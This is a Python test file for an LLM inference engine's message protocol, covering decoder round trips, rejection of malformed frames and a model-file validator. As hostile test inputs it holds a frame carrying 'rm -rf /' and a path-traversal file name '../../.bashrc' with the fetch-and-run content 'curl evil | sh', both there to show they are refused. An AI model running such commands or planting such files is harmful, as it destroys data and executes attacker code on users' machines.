"""The wire protocol: every message survives a msgspec round trip, garbage is refused by the
typed decoders, and a running engine-core shrugs off garbage frames on its sockets."""

from __future__ import annotations

import inspect
import uuid

import msgspec
import pytest
import zmq

from zllm import LLM, SamplingParams
from zllm.protocol import messages as m
from zllm.protocol import worker_messages as w
from zllm.protocol.config import EngineArgs, ModelConfig
from zllm.protocol.sampling_params import RequestOutputKind

PARAMS = SamplingParams(
    temperature=0.7,
    top_p=0.9,
    top_k=20,
    seed=7,
    stop=["\n\n"],
    stop_token_ids=[2],
    max_tokens=5,
    logprobs=2,
    logit_bias={3: -1.5},
    output_kind=RequestOutputKind.DELTA,
)
MODEL_CONFIG = ModelConfig(
    path="/m",
    tokenizer="/m",
    architecture="Qwen3ForCausalLM",
    model_type="qwen3",
    vocab_size=100,
    hidden_size=64,
    intermediate_size=128,
    num_hidden_layers=2,
    num_attention_heads=4,
    num_key_value_heads=2,
    head_dim=16,
    rms_norm_eps=1e-6,
    rope_theta=1e6,
    rope_scaling={"rope_type": "linear", "factor": 2.0},
    max_position_embeddings=1024,
    tie_word_embeddings=True,
    attention_bias=False,
    qk_norm=True,
    eos_token_ids=[2, 5],
    max_model_len=512,
)
LOGPROBS = m.Logprobs(token_ids=[[4, 9]], logprobs=[[-0.1, -2.5]], ranks=[1])
STATS = m.SchedulerStats(num_running=2, kv_blocks_used=3, kv_blocks_total=10, num_steps=4)
UPDATE = m.RequestUpdate(
    request_id="r1",
    new_token_ids=[4],
    finish_reason="stop",
    stop_reason=2,
    new_logprobs=LOGPROBS,
    num_cached_tokens=16,
)

CLIENT_MESSAGES = [
    m.Hello(protocol_version=m.PROTOCOL_VERSION, client_name="pid-1"),
    m.AddRequest(
        request_id="r1", prompt_token_ids=[1, 2, 3], sampling_params=PARAMS, arrival_time=1.5
    ),
    m.AddRequests(
        requests=[
            m.AddRequest(request_id="r2", prompt_token_ids=[4], sampling_params=PARAMS),
            m.AddRequest(request_id="r3", prompt_token_ids=[5, 6], sampling_params=PARAMS),
        ]
    ),
    m.AbortRequests(request_ids=["r1", "r2"]),
    m.UtilityCall(call_id=3, method="sleep", args=[2]),
    m.Goodbye(),
    m.Heartbeat(),
]
CORE_MESSAGES = [
    m.Ready(
        protocol_version=m.PROTOCOL_VERSION,
        engine_args=EngineArgs(model="/m", max_num_seqs=4, distributed_executor_backend="uni"),
        model_config=MODEL_CONFIG,
        num_kv_blocks=10,
        max_num_batched_tokens=2048,
        core_pid=123,
        client_timeout_s=5.0,
        model_files_digest="ab" * 32,
    ),
    m.StartupFailed(error="OutOfMemoryError: no"),
    m.StepOutputs(
        updates=[UPDATE, m.RequestUpdate(request_id="r2", new_token_ids=[])],
        stats=STATS,
        timestamp=2.0,
    ),
    m.UtilityReply(call_id=3, result={"a": [1, 2]}),
    m.UtilityReply(call_id=4, error="ValueError: bad level"),
    m.FrameRejected(error="the frame is not msgpack"),
    m.EngineDead(error="worker 0 died"),
    m.Disconnected(error="silent for 5 s"),
]
TO_WORKER = [
    w.ExecuteModel(
        finished_slots=[0],
        preempted_slots=[2],
        new_requests=[w.NewRequest(slot=0, prompt_token_ids=[1, 2, 3], sampling_params=PARAMS)],
        started=[w.SlotStart(0, 0), w.SlotStart(2, 16)],
        new_block_ids=[w.NewBlocks(0, [7]), w.NewBlocks(2, [3, 9])],
        slots=[0, 2, 1],
        num_scheduled_tokens=[3, 5, 1],
    ),
    w.WorkerCall(call_id=1, method="sleep", args=[1]),
]
TO_CORE = [
    w.WorkerHello(rank=0, pid=99, num_kv_blocks=10),
    w.WorkerFailed(rank=1, error="Traceback ..."),
    w.ModelOutput(
        sampled_token_ids=[4],
        logprobs=[LOGPROBS],
        prompt_logprobs={0: LOGPROBS},
        pooled={3: b"\x00\x00\x80?"},
    ),
    w.WorkerReply(rank=0, call_id=1, result=True),
]
DECODERS = [
    (CLIENT_MESSAGES, m.decode_client_message),
    (CORE_MESSAGES, m.decode_core_message),
    (TO_WORKER, w.decode_for_worker),
    (TO_CORE, w.decode_for_core),
]
NESTED = [
    LOGPROBS,
    STATS,
    UPDATE,
    TO_WORKER[0].new_requests[0],
    TO_WORKER[0].started[0],
    TO_WORKER[0].new_block_ids[0],
    PARAMS,
]


def _structs_of(module) -> set[type]:
    return {
        cls
        for _, cls in inspect.getmembers(module, inspect.isclass)
        if issubclass(cls, msgspec.Struct) and cls.__module__ == module.__name__
    }


def test_every_message_type_has_a_round_trip_sample() -> None:
    covered = {type(x) for x in CLIENT_MESSAGES + CORE_MESSAGES + TO_WORKER + TO_CORE + NESTED}
    covered.add(m.EncodedAddRequests)  # encode-only: see the next test
    missing = (_structs_of(m) | _structs_of(w)) - covered
    assert not missing, f"add samples for {sorted(c.__name__ for c in missing)}"


def test_pre_encoded_adds_decode_as_add_requests() -> None:
    adds = CLIENT_MESSAGES[2]
    frame = m.encode(
        m.EncodedAddRequests(requests=[msgspec.Raw(m.encode(a)) for a in adds.requests])
    )
    assert frame == m.encode(adds)
    assert m.decode_client_message(frame) == adds


@pytest.mark.parametrize(
    "message,decode",
    [(msg, decode) for msgs, decode in DECODERS for msg in msgs],
    ids=lambda x: type(x).__name__ if isinstance(x, msgspec.Struct) else None,
)
def test_round_trip_through_the_typed_decoder(message: msgspec.Struct, decode) -> None:
    decoded = decode(m.encode(message))
    assert type(decoded) is type(message)
    assert decoded == message


@pytest.mark.parametrize("value", NESTED, ids=lambda x: type(x).__name__)
def test_nested_structs_round_trip(value: msgspec.Struct) -> None:
    assert msgspec.msgpack.decode(m.encode(value), type=type(value)) == value


def test_sampling_params_keep_their_enum_and_defaults_stay_off_the_wire() -> None:
    decoded = m.decode_client_message(m.encode(CLIENT_MESSAGES[1]))
    assert decoded.sampling_params.output_kind is RequestOutputKind.DELTA
    assert b"presence_penalty" not in m.encode(CLIENT_MESSAGES[1])  # omit_defaults


GARBAGE = {
    "empty": b"",
    "not msgpack": b"\xc1\xc1\xc1",
    "random bytes": bytes(range(200, 256)),
    "truncated": m.encode(CLIENT_MESSAGES[1])[:-5],
    "not a tagged struct": msgspec.msgpack.encode([1, 2, 3]),
    "unknown tag": msgspec.msgpack.encode({"type": "RunShellCommand", "cmd": "rm -rf /"}),
    "wrong field type": msgspec.msgpack.encode(
        {"type": "AddRequest", "request_id": "x", "prompt_token_ids": "abc", "sampling_params": {}}
    ),
    "invalid sampling params": msgspec.msgpack.encode(
        {
            "type": "AddRequest",
            "request_id": "x",
            "prompt_token_ids": [1],
            "sampling_params": {"temperature": -1.0},
        }
    ),
    "pickle": b"\x80\x04\x95\x05\x00\x00\x00\x00\x00\x00\x00\x8c\x01x\x94.",
    # msgspec raises UnicodeDecodeError, not a MsgspecError, for this (found by the fuzz)
    "invalid utf-8 in a key": b"\x81\xa4typ\xaa\xa3abc",
}


@pytest.mark.parametrize("frame", list(GARBAGE.values()), ids=list(GARBAGE))
@pytest.mark.parametrize("decode", [d for _, d in DECODERS], ids=lambda d: d.__name__)
def test_typed_decoders_refuse_garbage(frame: bytes, decode) -> None:
    with pytest.raises(msgspec.MsgspecError):
        decode(frame)


@pytest.mark.parametrize("msgs,decode", DECODERS, ids=lambda x: getattr(x, "__name__", None))
def test_messages_for_another_socket_are_refused(msgs, decode) -> None:
    """A frame meant for a different receiver does not decode as one of ours."""
    others = [msg for other, _ in DECODERS if other is not msgs for msg in other]
    for msg in others:
        if type(msg) in {type(x) for x in msgs}:
            continue
        with pytest.raises(msgspec.ValidationError):
            decode(m.encode(msg))


# ---- a live engine-core ------------------------------------------------------------------------


@pytest.fixture(scope="module")
def llm(tiny_checkpoints: dict[str, str]):
    engine = LLM(tiny_checkpoints["llama"], distributed_executor_backend="uni", max_model_len=256)
    yield engine
    engine.shutdown()


def _garbage_frames() -> list[list[bytes]]:
    return [[frame] for frame in GARBAGE.values()] + [
        [b"two", b"frames"],
        [m.encode(CLIENT_MESSAGES[0]), b"trailing frame"],
    ]


@pytest.mark.timeout(120)
def test_core_answers_every_garbage_frame_and_keeps_serving(llm: LLM) -> None:
    """Garbage on either socket is answered (an error naming the request it could read, else
    `FrameRejected`), counted in the stats, and the next good request still runs."""
    greedy = SamplingParams(max_tokens=6, temperature=0.0, ignore_eos=True)
    expected = llm.generate(["Hello there"], greedy)[0].outputs[0].token_ids
    rejected_before = llm.get_stats().num_rejected_frames

    ctx = zmq.Context()
    identity = uuid.uuid4().bytes
    socks = []
    for address in (llm.client.input_address, llm.client.output_address):
        sock = ctx.socket(zmq.DEALER)
        sock.setsockopt(zmq.IDENTITY, identity)
        sock.setsockopt(zmq.LINGER, 0)
        sock.connect(address)
        socks.append(sock)
    to_core, from_core = socks
    try:
        from_core.send(m.encode(m.Hello(protocol_version=m.PROTOCOL_VERSION, client_name="raw")))
        assert from_core.poll(30_000)
        assert isinstance(m.decode_core_message(from_core.recv()), m.Ready)
        garbage = _garbage_frames()
        for frames in garbage:
            to_core.send_multipart(frames)
            from_core.send_multipart(frames)
        # Frames from one DEALER arrive in order: the good request is read after the garbage.
        request = m.AddRequest(
            request_id="raw-1", prompt_token_ids=[9, 10, 11], sampling_params=greedy
        )
        to_core.send(m.encode(request))
        got: list[int] = []
        finished = None
        rejected, refused_x = 0, 0
        while finished is None or rejected + refused_x < 2 * len(garbage):
            assert from_core.poll(60_000), "engine-core stopped answering after garbage frames"
            message = m.decode_core_message(from_core.recv())
            if isinstance(message, m.FrameRejected):
                rejected += 1
            elif isinstance(message, m.StepOutputs):
                for update in message.updates:
                    if update.request_id == "x":
                        assert update.finish_reason == "error" and update.error
                        refused_x += 1
                        continue
                    assert update.request_id == "raw-1"
                    got += update.new_token_ids
                    finished = update.finish_reason
        assert finished == "length" and len(got) == 6
        assert refused_x == 4, "the two AddRequests that name request 'x', on both sockets"
        assert rejected + refused_x == 2 * len(garbage), "one answer per garbage frame"
        to_core.send(m.encode(m.Goodbye()))
    finally:
        for sock in socks:
            sock.close(0)
        ctx.term()

    assert llm.client.proc.poll() is None, "engine-core died"
    assert llm.get_stats().num_rejected_frames - rejected_before == 2 * len(garbage)
    again = llm.generate(["Hello there"], greedy)[0].outputs[0].token_ids
    assert again == expected


def test_a_client_stores_only_the_model_files_it_asked_for(tiny_checkpoints) -> None:
    """What a daemon sends is checked before a client writes it to disk: the known names
    (never a path), bytes, the digest its Ready gave."""
    from zllm.protocol import model_files

    path = tiny_checkpoints["llama"]
    files = model_files.read_model_files(path, path)
    digest = model_files.digest(files)
    assert "tokenizer.json" in files and model_files.is_digest(digest)
    assert model_files.check(files, digest) is None

    hostile = {**files, "../../.bashrc": b"curl evil | sh"}
    assert "unexpected file name '../../.bashrc'" in model_files.check(
        hostile, model_files.digest(hostile)
    )
    assert "not bytes" in model_files.check({"config.json": "{}"}, digest)
    assert "not a mapping" in model_files.check([b"x"], digest)
    assert "do not match the digest" in model_files.check(files, "0" * 64)
    assert not model_files.is_digest("../" + digest[3:])
